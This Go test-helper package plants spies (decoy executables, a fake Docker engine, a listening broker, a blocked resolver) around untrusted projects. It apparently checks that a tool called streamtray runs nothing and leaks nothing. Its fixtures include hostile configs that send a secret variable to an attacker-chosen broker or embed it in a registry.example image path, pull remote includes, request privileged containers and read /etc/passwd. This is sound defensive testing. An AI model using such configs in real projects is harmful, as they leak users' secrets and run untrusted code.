// Package spies is for tests: a project that tries everything, and spies wherever it could lead a program, who note who
// comes. With it the terminal and the desktop prove that nothing is touched for a project that nobody trusts. An Engine notes what
// is changed for one that is trusted.
package spies

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"sync"
	"testing"
)

// envSeen names a file in which this test binary, run under any other program's name, notes that it was run.
const envSeen = "SPIES_SEEN"

// IfAsked notes that a program was run which should not have been, and ends. A TestMain calls it first.
func IfAsked() {
	seen := os.Getenv(envSeen)
	own := strings.Contains(filepath.Base(os.Args[0]), ".test")
	if seen == "" || own && (len(os.Args) < 2 || strings.HasPrefix(os.Args[1], "-")) { // the test itself
		return
	}
	f, err := os.OpenFile(seen, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
	if err == nil {
		fmt.Fprintln(f, os.Args)
		_ = f.Close()
	}
	os.Exit(1) //nolint:forbidigo // this process is the program that was run, and no test
}

// Spies stand wherever a project could lead a command, and note who comes.
type Spies struct {
	*testing.T
	Dir, Home string // the project, the person's things
	ran       string // names a file of the programs that were run

	Engine, Page, Broker string // addresses

	mu   sync.Mutex
	seen []string
}

func (s *Spies) note(what string, args ...any) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.seen = append(s.seen, fmt.Sprintf(what, args...))
}

// Taken are the contacts since the last call.
func (s *Spies) Taken() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	all := s.seen
	s.seen = nil
	if text, err := os.ReadFile(s.ran); err == nil {
		all = append(all, "a program was run: "+string(text))
		_ = os.Remove(s.ran)
	}
	return all
}

// Secret is a variable of the person's that no project may have.
const Secret = "WALK_SECRET"

// Place puts spies around a new project, which has an app.py and nothing else.
func Place(t *testing.T) *Spies {
	t.Helper()
	s := &Spies{T: t, Dir: t.TempDir(), Home: t.TempDir()}
	s.Put("app.py", "import os\n")
	s.ran = filepath.Join(s.Home, "ran")
	for _, dir := range []string{s.Dir, filepath.Join(s.Dir, ".venv", "bin"), filepath.Join(s.Dir, ".venv", "Scripts"), filepath.Join(s.Home, "bin")} {
		s.programs(dir)
	}
	s.Put(".venv/pyvenv.cfg", "home = "+filepath.Join(s.Home, "bin")+"\n")
	t.Setenv(envSeen, s.ran)
	t.Setenv("PATH", strings.Join([]string{s.Dir, filepath.Join(s.Dir, ".venv", "bin"), filepath.Join(s.Home, "bin")}, string(filepath.ListSeparator)))
	t.Setenv("VIRTUAL_ENV", filepath.Join(s.Dir, ".venv"))
	t.Setenv("STREAMTRAY_HOME", s.Home)
	t.Setenv("HOME", s.Home)
	t.Setenv("USERPROFILE", s.Home)
	t.Setenv(Secret, "dromedary")
	page := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { s.note("page asked: %s", r.URL) }))
	t.Cleanup(page.Close)
	s.Page = page.URL
	engine := httptest.NewServer(http.HandlerFunc(s.asEngine))
	t.Cleanup(engine.Close)
	s.Engine = "tcp://" + engine.Listener.Addr().String()
	t.Setenv("DOCKER_HOST", s.Engine)
	s.Broker = s.listening()
	before := net.DefaultResolver
	net.DefaultResolver = &net.Resolver{PreferGo: true, Dial: func(context.Context, string, string) (net.Conn, error) {
		s.note("a name was looked up")
		return nil, errors.New("nobody is asked here")
	}}
	t.Cleanup(func() { net.DefaultResolver = before })
	return s
}

// programs puts spies by the names of whatever a project could have run.
func (s *Spies) programs(dir string) {
	self, err := os.Executable()
	if err == nil {
		err = os.MkdirAll(dir, 0o700)
	}
	if err != nil {
		s.Fatal(err)
	}
	for _, name := range []string{"docker", "docker-compose", "python", "python3", "py", "own", "wsl"} {
		path := filepath.Join(dir, name)
		if runtime.GOOS == "windows" {
			path += ".exe"
		}
		if os.Symlink(self, path) == nil {
			continue
		}
		text, err := os.ReadFile(self)
		if err == nil {
			err = os.WriteFile(path, text, 0o700)
		}
		if err != nil {
			s.Fatal(err)
		}
	}
}

// Put writes a file of the project.
func (s *Spies) Put(name, text string) {
	path := filepath.Join(s.Dir, filepath.FromSlash(name))
	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, []byte(text), 0o600)); err != nil {
		s.Fatal(err)
	}
}

// listening is the address of a broker that hears whoever connects.
func (s *Spies) listening() string {
	l, err := new(net.ListenConfig).Listen(s.Context(), "tcp", "127.0.0.1:0")
	if err != nil {
		s.Fatal(err)
	}
	s.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			s.note("broker connected to")
			_ = c.Close()
		}
	}()
	return l.Addr().String()
}

var apiVersion = regexp.MustCompile(`^/v[0-9.]+`)

// asEngine is the engine's own socket, which may be asked for what is there. It holds a container of the project and one
// of another project of the same name; that one, and everything else, is nobody's to touch.
func (s *Spies) asEngine(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Api-Version", "1.47")
	w.Header().Set("Ostype", "linux")
	w.Header().Set("Content-Type", "application/json")
	container := func(id, dir string) map[string]any {
		return map[string]any{"Id": id, "Names": []string{"/" + id}, "State": "running", "Labels": map[string]string{
			"com.docker.compose.project": "hostile", "com.docker.compose.service": "kafka", "com.docker.compose.project.working_dir": dir,
		}}
	}
	path := apiVersion.ReplaceAllString(r.URL.Path, "")
	switch {
	case r.Method == http.MethodPost && path == "/containers/ours/stop":
		s.note("stopped ours")
		w.WriteHeader(http.StatusNoContent)
		return
	case r.Method != http.MethodGet && r.Method != http.MethodHead || strings.HasPrefix(path, "/distribution/"):
		s.note("engine: %s %s", r.Method, path)
	}
	switch path {
	case "/_ping":
		fmt.Fprint(w, "OK")
	case "/info":
		fmt.Fprint(w, `{"ServerVersion":"28.2.2","OSType":"linux","OperatingSystem":"Debian","MemTotal":8000000000,"NCPU":4}`)
	case "/containers/json":
		_ = json.NewEncoder(w).Encode([]any{container("ours", s.Dir), container("strangers", "/home/me/other")})
	case "/containers/ours/json":
		_ = json.NewEncoder(w).Encode(map[string]any{"Id": "ours", "State": map[string]any{"Status": "running", "Running": true}, "Config": map[string]any{"Tty": true}})
	default:
		w.WriteHeader(http.StatusNotFound)
		fmt.Fprint(w, `{"message":"no such thing"}`)
	}
}

// Projects are projects that try all there is to try.
var Projects = map[string]func(s *Spies){
	"credentials for an address of its choosing": func(s *Spies) {
		s.Put("streamtray.yaml", fmt.Sprintf(`version: 1
kafka:
  mode: remote
  bootstrap: [%q]
  remote: {security: SASL_PLAINTEXT, mechanism: PLAIN, user_env: %s, password_env: %s}
app: {command: [own], ready: {http: %q}}
`, s.Broker, Secret, Secret, s.Page))
	},
	"another computer": func(s *Spies) {
		s.Put("streamtray.yaml", fmt.Sprintf("version: 1\nkafka: {mode: remote, bootstrap: ['kafka.example:9092']}\napp: {command: [./own], ready: {http: %q}}\n", s.Page))
	},
	"containers": func(s *Spies) {
		s.Put("streamtray.yaml", fmt.Sprintf("version: 1\ncompose: {files: [compose.yaml]}\nkafka: {bootstrap: ['kafka.example:9092']}\nstreaming: {file: .env}\napp: {ready: {http: %q}}\n", s.Page))
		s.Put("compose.yaml", `name: hostile
include: ["https://git.example/x.git"]
services:
  kafka:
    image: registry.example/${`+Secret+`}/kafka
    privileged: true
    env_file: [pipe, /dev/zero, /etc/passwd]
    depends_on: [helper]
    environment: {KAFKA_ADVERTISED_LISTENERS: "PLAINTEXT://kafka.example:9092", KAFKA_LISTENERS: "PLAINTEXT://0.0.0.0:9092"}
    ports: ["9092:9092"]
  helper: {provider: {type: ./own}}
`)
		pipe(s.T, filepath.Join(s.Dir, "pipe"))
	},
	"no settings of its own": func(s *Spies) {
		s.Put("compose.yaml", "name: hostile\nservices: {kafka: {image: apache/kafka, env_file: [pipe], ports: ['9092:9092'], environment: {KAFKA_ADVERTISED_LISTENERS: 'PLAINTEXT://kafka.example:9092'}}}\n")
		pipe(s.T, filepath.Join(s.Dir, "pipe"))
	},
	"pipes everywhere": func(s *Spies) {
		for _, name := range []string{"streamtray.yaml", ".env", "requirements.txt", "pyproject.toml", "README.md", "Dockerfile", "Procfile", "uv.lock", ".python-version", "environment.yml"} {
			pipe(s.T, filepath.Join(s.Dir, name))
		}
	},
}

// Getenv is the person's environment, in which nobody may look for the secret.
func (s *Spies) Getenv(key string) string {
	if key == Secret {
		s.note("the variable %s was read", key)
	}
	return os.Getenv(key)
}
